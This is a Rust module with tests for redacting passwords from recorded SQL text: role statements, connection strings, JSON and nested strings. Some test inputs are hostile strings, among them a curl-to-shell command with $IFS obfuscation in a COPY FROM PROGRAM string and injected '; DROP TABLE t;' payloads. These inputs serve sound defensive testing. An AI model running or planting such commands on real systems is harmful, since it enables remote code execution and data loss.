//! Passwords in SQL: what a recording must not hold.

use std::borrow::Cow;
use std::ops::Range;

use super::lex::{Kind, Token, lex_all};

/// The text with its passwords blotted out: the strings behind PASSWORD in statements about roles and user mappings, and the
/// values of `password=…` within strings, such as connections. A string may be code as well, of a DO block say, and so it is
/// cut into words as the text is: what is blotted out is a string or a name in quotes, or one run of characters behind
/// `password=`, and never what stands beside strings or between comments, so that nothing can hide there. Where servers may
/// read a backslash otherwise, no more is blotted out than is one word in every reading.
pub fn mask_secrets(sql: &str) -> Cow<'_, str> {
    if !is_suspect(sql) {
        return Cow::Borrowed(sql);
    }
    let mut found = secrets(sql);
    found.sort_by_key(|(place, _)| place.start);
    blot(sql, found)
}

/// Whether something was blotted out of a text.
pub fn is_masked(sql: &str) -> bool {
    sql.contains(INNER)
}

/// Whether the text could hold a password at all: a quick look, on any statement. All signs have this in them.
fn is_suspect(sql: &str) -> bool {
    sql.as_bytes().windows(5).any(|part| part.eq_ignore_ascii_case(b"passw") || part.eq_ignore_ascii_case(b"passf"))
}

/// What is blotted out, and what stands there instead.
type Secret = (Range<usize>, &'static str);

fn secrets(sql: &str) -> Vec<Secret> {
    let mut found = Vec::new();
    let tokens = lex_all(sql);
    for tokens in tokens.split(|token| token.is_symbol(";")) {
        for (at, token) in tokens.iter().enumerate() {
            let (begin, end) = token.at;
            match &token.kind {
                Kind::String(_) | Kind::Quoted(_) | Kind::Word(_) if !token.is("null") && is_of_role(tokens, at) => {
                    found.push((begin..end_of_role(tokens, sql).unwrap_or(end), MASK));
                }
                Kind::String(_) if is_announced(tokens, at) => found.push((begin..end, MASK)),
                // A command for a shell, which finds code in anything.
                Kind::String(_) if is_program(tokens, at) => {}
                Kind::String(_) => {
                    found.extend(secrets_within(sql, begin..end, 0).into_iter().map(|place| (place, INNER)))
                }
                _ => {}
            }
        }
    }
    if !tokens.iter().all(|token| is_settled(sql, token)) {
        found.iter_mut().for_each(|(place, _)| *place = one_word(sql, place.clone()));
    }
    found
}

/// Whether every server takes a token for the same, whatever its `standard_conforming_strings` and `client_encoding`: a
/// backslash before a quote may escape it or not, and one behind another character may be a part of it.
fn is_settled(sql: &str, token: &Token) -> bool {
    let Kind::String(_) = &token.kind else { return true };
    let text = sql.get(token.at.0..token.at.1).unwrap_or_default();
    let foreign = || text.split('\\').rev().skip(1).any(|before| before.ends_with(|c: char| !c.is_ascii()));
    match text.starts_with(['e', 'E']) {
        true => !foreign(),
        false => text.starts_with('$') || !text.contains("\\'"),
    }
}

/// The front of a secret that is one word, behind its quote if it has one.
fn one_word(sql: &str, secret: Range<usize>) -> Range<usize> {
    let text = sql.get(secret.clone()).unwrap_or_default();
    let quotes = ["'", "\"", "$", "e'", "E'", "u&'", "U&'", "u&\"", "U&\""];
    let open = quotes.iter().find(|quote| text.starts_with(**quote)).map_or(0, |quote| quote.len());
    let word = text.get(open..).unwrap_or_default();
    let length = word.find(|c: char| !c.is_alphanumeric()).unwrap_or(word.len());
    let closed = open > 0 && word.len() == length + 1 && word.ends_with(['\'', '"', '$']);
    secret.start..secret.start + open + length + usize::from(closed)
}

/// The end of a statement about a role in which a quote is missing: where its secret ends, nobody can tell.
fn end_of_role(tokens: &[Token], sql: &str) -> Option<usize> {
    let last = tokens.last().filter(|last| matches!(last.kind, Kind::String(_) | Kind::Quoted(_)))?;
    let text = sql.get(last.at.0..last.at.1).unwrap_or_default();
    (last.at.1 == sql.len() && (text.len() == 1 || !text.ends_with(['\'', '"', '$']))).then_some(last.at.1)
}

/// What is secret in the content of a string, which may be code, a connection, JSON or anything.
fn secrets_within(sql: &str, string: Range<usize>, depth: usize) -> Vec<Range<usize>> {
    let Some((content, places)) = sql.get(string.clone()).filter(|text| is_suspect(text)).map(content) else {
        return Vec::new();
    };
    let mut found = Vec::new();
    let mut behind = 0;
    let tokens = lex_all(&content);
    for (at, token) in tokens.iter().enumerate() {
        let (begin, end) = token.at;
        found.extend(run_in_gap(&content, behind..begin));
        behind = end;
        match &token.kind {
            Kind::String(_) | Kind::Quoted(_) if is_announced_within(&tokens, at) => {
                found.push(inside(&content, begin..end));
            }
            Kind::String(_) if depth < MAX_DEPTH => {
                found.extend(secrets_within(&content, begin..end, depth + 1));
            }
            Kind::Word(_) if ends_with_sign(token) => found.extend(run(&content, end)),
            _ => {}
        }
    }
    found.extend(run_in_gap(&content, behind..content.len()));
    let place = |at: usize| string.start + places.get(at).copied().unwrap_or(string.len());
    found.into_iter().map(|found| place(found.start)..place(found.end)).collect()
}

/// What a string stands for, and where each byte of that, and its end, lies in it.
fn content(string: &str) -> (String, Vec<usize>) {
    let dollars = string.starts_with('$');
    let within = inside(string, 0..string.len());
    let (open, inner) = (within.start, string.get(within.clone()).unwrap_or_default());
    let escapes = string.starts_with(['e', 'E']);
    let (mut content, mut places) = (String::new(), Vec::new());
    let mut characters = inner.char_indices().peekable();
    while let Some((at, mut c)) = characters.next() {
        if escapes && c == '\\' {
            c = characters.next().map_or(c, |(_, next)| if "nrt".contains(next) { ' ' } else { next });
        } else if !dollars && c == '\'' && characters.next_if(|(_, next)| *next == '\'').is_none() {
            // It goes on after a new line.
            while characters.next_if(|(_, next)| *next != '\'').is_some() {}
            characters.next();
            continue;
        }
        content.push(c);
        places.extend(std::iter::repeat_n(open + at, c.len_utf8()));
    }
    places.push(within.end);
    (content, places)
}

/// What is between the quotes of a string or a name.
fn inside(text: &str, token: Range<usize>) -> Range<usize> {
    let whole = text.get(token.clone()).unwrap_or_default();
    let quote = whole.find(['\'', '"', '$']).unwrap_or_default();
    let open = match whole.get(quote + 1..) {
        Some(rest) if whole.starts_with('$') => rest.find('$').map_or(1, |at| at + 2),
        _ => quote + 1,
    };
    let mark = whole.get(quote..open).unwrap_or_default();
    let close = if whole.len() >= open + mark.len() && whole.ends_with(mark) { mark.len() } else { 0 };
    token.start + open.min(whole.len())..token.end - close
}

/// The run of characters behind `password=` in a comment, or in what only looks like one.
fn run_in_gap(text: &str, gap: Range<usize>) -> Option<Range<usize>> {
    let before = text.get(..gap.end)?;
    run(before, sign(before, gap)?)
}

/// A value without quotes: what stands behind `=` or `:`, as far as it is one run of characters.
fn run(text: &str, behind: usize) -> Option<Range<usize>> {
    let rest = text.get(behind..)?;
    if let Some(named) = rest.strip_prefix("\\\"") {
        // No server takes a backslash there for code: it is JSON within JSON.
        let value = named.trim_start_matches([' ', ':']).strip_prefix("\\\"")?;
        let (begin, value) = (text.len() - value.len(), value.get(..visible(value))?);
        return Some(begin..begin + value.find("\\\"").unwrap_or(value.len()));
    }
    let value = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || "=:>".contains(c));
    let begin = text.len() - value.len();
    let between = rest.get(..rest.len() - value.len())?;
    // What is assigned by these is an expression, and what is secret of it a string.
    let assigned = between.contains(['=', ':']) && !between.contains(":=") && !between.contains("=>");
    let value = value.get(..visible(value))?;
    let length = value.find(|c: char| c.is_whitespace() || "'\"&,;)}".contains(c)).unwrap_or(value.len());
    let length = value.get(..length)?.find("/*").unwrap_or(length);
    (length > 0 && assigned).then_some(begin..begin + length)
}

/// What stands so many steps before a token.
fn before(tokens: &[Token], at: usize, steps: usize) -> Option<&Token> {
    at.checked_sub(steps).and_then(|place| tokens.get(place))
}

/// What stands behind PROGRAM, in a COPY.
fn is_program(tokens: &[Token], at: usize) -> bool {
    before(tokens, at, 1).is_some_and(|before| before.is("program"))
}

/// `PASSWORD 'x'`, `password = 'x'`, `OPTIONS (password 'x')`, `set_config('password', 'x')`
fn is_announced(tokens: &[Token], at: usize) -> bool {
    is_behind(tokens, at, is_sign)
}

/// The same within a string, where a name may end with the word, and JSON has it in quotes.
fn is_announced_within(tokens: &[Token], at: usize) -> bool {
    is_behind(tokens, at, ends_with_sign)
}

/// Whether a token stands behind such a sign, or is assigned to one.
fn is_behind(tokens: &[Token], at: usize, sign: fn(&Token) -> bool) -> bool {
    let is_there = |steps| before(tokens, at, steps).is_some_and(sign);
    is_there(1) || before(tokens, at, 1).is_some_and(assigns) && is_there(2)
}

fn assigns(token: &Token) -> bool {
    ["=", ":", ":=", "=>", "("].iter().any(|symbol| token.is_symbol(symbol))
}

fn ends_with_sign(token: &Token) -> bool {
    let ends = |name: &str, sign: &str| name.to_ascii_lowercase().ends_with(sign);
    token.name().is_some_and(|name| SIGNS.iter().any(|sign| ends(name, sign)))
}

/// What stands right behind PASSWORD in a statement that makes or changes a role.
fn is_of_role(tokens: &[Token], at: usize) -> bool {
    let [verb, what, ..] = tokens else { return false };
    let role = what.is("role") || what.is("user") || what.is("group");
    (verb.is("create") || verb.is("alter")) && role && before(tokens, at, 1).is_some_and(is_sign)
}

fn is_sign(token: &Token) -> bool {
    token.name().is_some_and(|name| SIGNS.iter().any(|sign| name.eq_ignore_ascii_case(sign)))
}

/// Where the next sign ends.
fn sign(sql: &str, within: Range<usize>) -> Option<usize> {
    let bytes = sql.as_bytes().get(..within.end)?;
    within.into_iter().find_map(|at| {
        let rest = bytes.get(at..)?;
        let begins = |sign: &&&str| rest.get(..sign.len()).is_some_and(|it| it.eq_ignore_ascii_case(sign.as_bytes()));
        rest.first().filter(|first| matches!(first, b'p' | b'P' | b's' | b'S'))?;
        SIGNS.iter().find(begins).map(|sign| at + sign.len())
    })
}

/// Bytes of the front of `text` that are looked at: [`LONGEST`], as whole characters.
fn visible(text: &str) -> usize {
    (LONGEST..text.len()).find(|at| text.is_char_boundary(*at)).unwrap_or(text.len())
}

fn blot(sql: &str, secrets: Vec<Secret>) -> Cow<'_, str> {
    if secrets.is_empty() {
        return Cow::Borrowed(sql);
    }
    let (mut masked, mut from) = (String::with_capacity(sql.len()), 0);
    for (place, instead) in secrets {
        if place.start < from {
            continue;
        }
        masked.push_str(sql.get(from..place.start).unwrap_or_default());
        masked.push_str(instead);
        from = place.end;
    }
    masked.push_str(sql.get(from..).unwrap_or_default());
    Cow::Owned(masked)
}

/// Words that announce a secret, in small letters. MD5 and SCRAM verifiers stand where passwords do.
const SIGNS: [&str; 4] = ["password", "passwd", "sslpassword", "passfile"];

/// What stands in the recording instead of a string.
const MASK: &str = "'***'";
/// What stands in it instead of a value within one.
const INNER: &str = "***";
/// Strings within each other that are looked into.
const MAX_DEPTH: usize = 6;
/// The longest secret that is looked for without knowing the words around it, in bytes: no more hides behind a sign.
const LONGEST: usize = 1_024;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_hides_where_a_backslash_may_be_read_in_two_ways() {
        for (sql, must_show) in [
            ("ALTER ROLE me PASSWORD '\\''; DROP TABLE t; SELECT 'x'", "; DROP TABLE t; SELECT 'x'"),
            ("SELECT '\\' , PASSWORD ' , evil(1) --'", " , evil(1) --'"),
            ("ALTER ROLE me PASSWORD E'\u{fffd}\\'; DROP TABLE t; SELECT 'x'", "; DROP TABLE t; SELECT 'x'"),
            ("SELECT E'\u{fffd}\\\\' || PASSWORD '; DROP TABLE t; --'", "; DROP TABLE t; --'"),
            ("SELECT 'password=''\\'''; DROP TABLE t; --'''", "; DROP TABLE t; --'''"),
        ] {
            let masked = mask_secrets(sql);
            assert!(masked.contains(must_show), "{sql}: {masked}");
        }
        // A word is one in every reading.
        let settled = "ALTER ROLE a PASSWORD 's3cret'; SELECT '\\'";
        assert_eq!(mask_secrets(settled), "ALTER ROLE a PASSWORD '***'; SELECT '\\'");
        let escaped = "ALTER ROLE a PASSWORD E's3\\'cret'";
        assert_eq!(mask_secrets(escaped), "ALTER ROLE a PASSWORD '***'");
    }

    #[test]
    fn what_is_run_is_no_password() {
        for sql in [
            "COPY t FROM PROGRAM 'password=`curl$IFS-s$IFS$9http://x/y|sh`'",
            "DO $$ DECLARE password int; BEGIN password:=lo_unlink(16384); END $$",
            "DO $$ BEGIN PERFORM f(password => lo_unlink(16384)); END $$",
        ] {
            assert_eq!(mask_secrets(sql), sql);
        }
    }

    #[test]
    fn passwords_are_blotted_out_and_nothing_else() {
        for (name, sql, expected) in [
            (
                "a new role",
                "CREATE ROLE a LOGIN PASSWORD 's3cret' VALID UNTIL '2030-01-01'",
                "CREATE ROLE a LOGIN PASSWORD '***' VALID UNTIL '2030-01-01'",
            ),
            (
                "escaped",
                "alter user a with encrypted password E's3\\'cret'; select 'x'",
                "alter user a with encrypted password '***'; select 'x'",
            ),
            ("in dollar quotes", "ALTER ROLE a PASSWORD $x$s3'cret$x$", "ALTER ROLE a PASSWORD '***'"),
            ("behind a comment", "ALTER ROLE a PASSWORD /* 'no' */ 's3cret'", "ALTER ROLE a PASSWORD /* 'no' */ '***'"),
            (
                "a mapping",
                "CREATE USER MAPPING FOR a SERVER s OPTIONS (user 'u', password 's3cret')",
                "CREATE USER MAPPING FOR a SERVER s OPTIONS (user 'u', password '***')",
            ),
            (
                "a connection",
                "SELECT dblink('host=h password=s3cret port=1', 'select 1')",
                "SELECT dblink('host=h password=*** port=1', 'select 1')",
            ),
            (
                "a quoted one in it",
                "SELECT dblink('password = ''s3 cre''''t'' port=1')",
                "SELECT dblink('password = ''***'' port=1')",
            ),
            (
                "in JSON",
                r#"INSERT INTO u VALUES ('{"password": "s3cret", "a": 1}')"#,
                r#"INSERT INTO u VALUES ('{"password": "***", "a": 1}')"#,
            ),
            (
                "in a block",
                "DO $$ BEGIN EXECUTE 'ALTER ROLE a PASSWORD ''s3cret'''; DROP TABLE t; END $$",
                "DO $$ BEGIN EXECUTE 'ALTER ROLE a PASSWORD ''***'''; DROP TABLE t; END $$",
            ),
            ("without quotes", "ALTER ROLE a PASSWORD s3cret", "ALTER ROLE a PASSWORD '***'"),
            ("in other quotes", "ALTER USER a PASSWORD \"s3cret\"", "ALTER USER a PASSWORD '***'"),
            ("in other quotes, cut", "ALTER ROLE a PASSWORD \"s3cr", "ALTER ROLE a PASSWORD '***'"),
            ("with a quote in it", "ALTER ROLE a PASSWORD 's3'cret'", "ALTER ROLE a PASSWORD '***'"),
            (
                "a comparison",
                "SELECT * FROM u WHERE password = 's3cret' AND name = 'a'",
                "SELECT * FROM u WHERE password = '***' AND name = 'a'",
            ),
            (
                "a subscription",
                "CREATE SUBSCRIPTION s CONNECTION 'password=s3cret' PUBLICATION p",
                "CREATE SUBSCRIPTION s CONNECTION 'password=***' PUBLICATION p",
            ),
            ("with blanks in JSON", r#"SELECT '{"db_password": "s3 cret"}'"#, r#"SELECT '{"db_password": "***"}'"#),
            ("in JSON in JSON", r#"SELECT '"{\"password\": \"s3cret\"}"'"#, r#"SELECT '"{\"password\": \"***\"}"'"#),
            ("behind a dash", "SELECT f('host=xn--a password=s3cret')", "SELECT f('host=xn--a password=***')"),
            ("behind an apostrophe", "SELECT f('don''t: password=s3cret')", "SELECT f('don''t: password=***')"),
            (
                "with Unicode escapes",
                "ALTER ROLE a PASSWORD U&'s3cret' VALID UNTIL '2030'",
                "ALTER ROLE a PASSWORD '***' VALID UNTIL '2030'",
            ),
            ("cut in the middle", "ALTER ROLE a PASSWORD 's3cr", "ALTER ROLE a PASSWORD '***'"),
            ("cut, in dollar quotes", "ALTER ROLE a PASSWORD $$s3cr", "ALTER ROLE a PASSWORD '***'"),
            ("no password", "SELECT 'x' FROM t", "SELECT 'x' FROM t"),
            ("no string", "ALTER ROLE a PASSWORD NULL", "ALTER ROLE a PASSWORD NULL"),
        ] {
            let masked = mask_secrets(sql);
            assert_eq!(masked, expected, "{name}");
            assert!(!masked.contains("s3"), "{name}");
        }
    }

    #[test]
    fn nothing_else_hides_behind_a_password() {
        let tail = "x ".repeat(60_000);
        for (name, sql) in [
            ("a block", "DO $$ BEGIN /* password */ PERFORM evil(); END $$".to_owned()),
            ("a block with a value", "DO $$ BEGIN -- password=x\n PERFORM evil(); END $$".to_owned()),
            ("a word in a string", "SELECT 'passwords are evil'".to_owned()),
            ("a text of too many words", format!("SELECT /* password 'a' */ 'b', evil() {tail}")),
            ("a string without end", format!("SELECT /* password $$ */ 1{} evil() {tail}", " ".repeat(2_000))),
            ("a column", "SELECT password evil FROM u".to_owned()),
            ("a block between comments", "DO $$BEGIN /*password '*/evil(); /*'*/ END$$".to_owned()),
            ("the same without blanks", "DO $$BEGIN/*password='*/evil/**/();/*'*/END$$".to_owned()),
            ("code between strings", "DO $$BEGIN EXECUTE 'SELECT ''password '', evil(), ''x'''; END$$".to_owned()),
            ("code between comments in a string", "SELECT f('SELECT 1 /*password ''*/, evil() /*''*/')".to_owned()),
            ("a text with Unicode escapes", "SELECT U&'\\0041' /*password '*/, evil() /*'*/".to_owned()),
            ("a name with Unicode escapes", "SELECT U&\"a\" /*password '*/, evil() /*'*/".to_owned()),
            ("a number of another form", "SELECT 0x1F /*password '*/, evil() /*'*/".to_owned()),
            ("a text that is cut in a string", format!("SELECT /*password '*/ evil() /*'*/, 'x{tail}")),
            ("an operator", "SELECT password || 'evil'".to_owned()),
        ] {
            let masked = mask_secrets(&sql);
            assert!(masked.contains("evil"), "{name}: {:.200}", masked);
        }
    }

    #[test]
    fn a_text_of_signs_alone_is_masked_in_one_pass() {
        let cost = |times: usize| {
            let texts = ["password ", "password$ ", "password='", "'password=x "].map(|text| text.repeat(times));
            let one = format!("SELECT '{}'", "password ".repeat(times));
            let texts = texts.into_iter().chain([one]);
            let begun = on_processor();
            texts.for_each(|text| assert!(mask_secrets(&text).len() > times));
            on_processor() - begun
        };
        // Sixteen times as much text, and 256 times as much work if each sign looked at all of it.
        let (few, many) = (cost(1_000), cost(16_000));
        assert!(many < 80 * few.max(1_000_000), "{few} and {many} nanoseconds");
    }

    /// How long this thread had a processor so far, in nanoseconds.
    fn on_processor() -> u64 {
        let stat = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap();
        stat.split(' ').next().unwrap().parse().unwrap()
    }

    proptest::proptest! {
        #[test]
        fn any_text_can_be_masked(text in "(password|PASSWD|[ ='\":$>é;,a\\\\]){0,40}") {
            let masked = mask_secrets(&text);
            proptest::prop_assert!(masked == text || is_masked(&masked));
        }
    }
}
